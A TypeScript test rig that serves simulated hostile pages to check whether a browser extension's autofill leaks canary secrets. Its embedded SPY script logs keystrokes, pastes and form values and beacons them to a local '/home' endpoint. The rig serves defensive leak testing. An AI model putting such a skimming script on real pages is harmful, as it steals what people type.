/**
 * What the hostile pages run on: the built extension, a memory of canaries, servers for any host name over http and https, windows
 * ("lanes") that work side by side, and an oracle that knows everything a server saw and a page can read. Each lane is a window of its
 * own, because only the tab in front may be filled.
 */
import { createServer as createHttp, type IncomingMessage, type ServerResponse } from 'node:http';
import { createServer as createHttps } from 'node:https';
import type { AddressInfo } from 'node:net';
import type { BrowserContext, Frame, Page } from 'playwright-core';
import type { OperationId } from '../../lib/core/ids.ts';
import type { Answer, Body, PageView, SurfaceCalls } from '../../lib/messaging/contract.ts';
import { selfSigned } from '../e2e/sites/certificate.ts';
import { SITE_FLAGS } from '../e2e/sites/server.ts';
import { type Session, startSession } from '../eval/session.ts';
import { type Canaries, type CanaryName, makeCanaries } from './canaries.ts';

export interface Lane {
  readonly page: Page;
  readonly tabId: number;
}

export interface Rig {
  readonly session: Session;
  readonly canaries: Canaries;
  /** Serves a body at an address of any host; answers with the address. */
  serve(host: string, body: string, options?: { readonly secure?: boolean; readonly path?: string; readonly raw?: boolean }): string;
  lane(): Promise<Lane>;
  /** A call as a surface makes it. */
  call<N extends keyof SurfaceCalls>(name: N, body: Body<N>): Promise<Answer<N>>;
  view(lane: Lane): Promise<PageView>;
  /** The most careless person: yes to everything that has a value. */
  acceptAll(lane: Lane, view: PageView): Promise<Answer<'surface.accept'>>;
  /** Everything that any script of the page, in any frame, can read now or has recorded. */
  readable(lane: Lane): Promise<string>;
  /** What servers were asked for, with headers and bodies, since the last call; without what earlier scenes still send home. */
  asked(): string;
  /** What each page ever sent home, by its path, whenever it came: to be judged by what its own scene allows. */
  sentHome(): ReadonlyMap<string, string>;
  /** Paths of the pages of this scene, frames included. */
  paths(): ReadonlySet<string>;
  /** Leaves the page. A new scene begins: what older pages still send is theirs. */
  leave(lane: Lane): Promise<void>;
  /** Canaries that a page or a server knows and should not. */
  leaks(lane: Lane, approved: readonly CanaryName[]): Promise<readonly CanaryName[]>;
  close(): Promise<void>;
}

/** In every served page: records what a hostile page would, and sends it home. */
const SPY = `<script>(() => {
  const log = new Set();
  Object.assign(window, { __log: log });
  const home = () => navigator.sendBeacon && log.size && navigator.sendBeacon('/home' + location.pathname, [...log].join(' '));
  for (const type of ['input', 'change', 'beforeinput', 'keydown', 'keyup', 'paste', 'focusin', 'focusout', 'compositionend'])
    addEventListener(type, (event) => {
      const at = event.target || {};
      for (const one of [at.value, at.textContent && at.isContentEditable ? at.textContent : '', event.data, event.key]) if (one) log.add(String(one));
    }, true);
  const poll = () => {
    for (const one of document.querySelectorAll('input, textarea, select')) if (one.value) log.add(one.value);
    requestAnimationFrame(poll);
  };
  poll();
  setInterval(home, 400);
})()</script>`;

/** Where a page sends what it has seen, and which page it is. */
const HOME = /^\/home(\/[^?]*)/;

export const page = (body: string): string =>
  `<!doctype html><html lang="en"><meta charset="utf-8"><title>Join us</title>${SPY}<body>${body}`;

export async function startRig(): Promise<Rig> {
  const canaries = makeCanaries();
  const pages = new Map<string, string>();
  let log: { readonly from: string | null; readonly text: string }[] = [];
  let scene = new Set<string>();
  const home = new Map<string, string>();
  const answer = async (request: IncomingMessage, response: ServerResponse) => {
    const chunks: Buffer[] = [];
    for await (const chunk of request) chunks.push(chunk as Buffer);
    const from = HOME.exec(request.url ?? '')?.[1] ?? null;
    const text = `${request.url} ${JSON.stringify(request.headers)} ${Buffer.concat(chunks).toString()}`;
    log.push({ from, text });
    if (from) home.set(from, `${home.get(from) ?? ''}${text}\n`);
    const html = pages.get(`${request.headers.host?.split(':')[0]}${request.url?.split('?')[0]}`);
    response.writeHead(html === undefined ? 404 : 200, { 'content-type': 'text/html; charset=utf-8' });
    response.end(html ?? '');
  };
  const plain = createHttp(answer);
  const secure = createHttps(selfSigned(['*.example', '*.shop.example', '*.example.co.uk', '*.github.io']), answer);
  for (const server of [plain, secure]) await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  const portOf = (server: { address(): unknown }) => (server.address() as AddressInfo).port;
  const session = await startSession({ args: SITE_FLAGS });
  await session.onboard(canaries.memory);
  const caller = await session.extension.openSurface('options');
  let count = 0;
  const call: Rig['call'] = async (name, body) => {
    const envelope = (await caller.evaluate((message) => chrome.runtime.sendMessage(message), { to: 'background', name, body })) as {
      ok: boolean;
      value: never;
      reason?: string;
    };
    if (!envelope?.ok) throw new Error(`${name}: ${envelope?.reason}`);
    return envelope.value;
  };
  const rig: Rig = {
    session,
    canaries,
    serve(host, body, options = {}) {
      const path = options.path ?? `/${++count}`;
      pages.set(host + path, options.raw ? body : page(body));
      scene.add(path);
      const safe = options.secure ?? true;
      return `${safe ? 'https' : 'http'}://${host}:${portOf(safe ? secure : plain)}${path}`;
    },
    async lane() {
      const address = rig.serve('lane.example', '<p>Ready</p>', { path: `/lane-${++count}` });
      // Windows are opened side by side: the next page that appears may be another's.
      const opened = pageAt(session.extension.context, address);
      const tabId = await caller.evaluate(
        (url) => chrome.windows.create({ url, width: 1200, height: 900, focused: false }).then((made) => made?.tabs?.[0]?.id ?? -1),
        address,
      );
      return { page: await opened, tabId };
    },
    call,
    view: (lane) => call('surface.page', { tabId: lane.tabId, cached: false }),
    acceptAll: (lane, view) =>
      call('surface.accept', {
        tabId: lane.tabId,
        view: view.view,
        rows: view.rows.filter((row) => ['ready', 'asked'].includes(row.status) && row.value !== undefined).map(({ id }) => ({ id })),
        operation: `attack-${++count}` as OperationId,
      }),
    async readable(lane) {
      // Our own list shows a value to the person; no script of the page reads a frame of the extension.
      const theirs = lane.page.frames().filter((frame) => !frame.url().startsWith('chrome-extension:'));
      const texts = await Promise.all(theirs.map(read));
      return texts.join('\n');
    },
    asked() {
      const text = log.filter(({ from }) => from === null || scene.has(from)).map((one) => one.text);
      log = [];
      return text.join('\n');
    },
    sentHome: () => home,
    paths: () => scene,
    async leave(lane) {
      await lane.page.goto('about:blank');
      scene = new Set();
      log = [];
    },
    leaks: async (lane, approved) =>
      canaries.found(`${await rig.readable(lane)}\n${rig.asked()}`).filter((name) => !approved.includes(name)),
    async close() {
      await session.close();
      for (const server of [plain, secure]) {
        server.closeAllConnections();
        await new Promise((done) => server.close(done));
      }
    },
  };
  return rig;
}

/** The page at that address, once there is one. */
function pageAt(context: BrowserContext, address: string): Promise<Page> {
  return new Promise((done) => {
    const look = (page: Page): void => {
      const arrived = (): void => {
        if (page.url() !== address) return;
        context.off('page', look);
        done(page);
      };
      page.on('framenavigated', arrived);
      arrived();
    };
    context.on('page', look);
  });
}

function read(frame: Frame): Promise<string> {
  return frame
    .evaluate(() => {
      const texts: string[] = [document.documentElement.outerHTML, document.title, location.href, document.cookie, window.name];
      const roots: (Document | ShadowRoot)[] = [document];
      for (let root = roots.pop(); root; root = roots.pop()) {
        for (const one of root.querySelectorAll('*')) {
          if (one.shadowRoot) {
            roots.push(one.shadowRoot);
            texts.push(one.shadowRoot.innerHTML);
          }
          if ('value' in one && typeof one.value === 'string') texts.push(one.value);
        }
      }
      return [...texts, ...((window as never as { __log?: Set<string> }).__log ?? []), document.body?.innerText ?? ''].join('\n');
    })
    .catch(() => '');
}
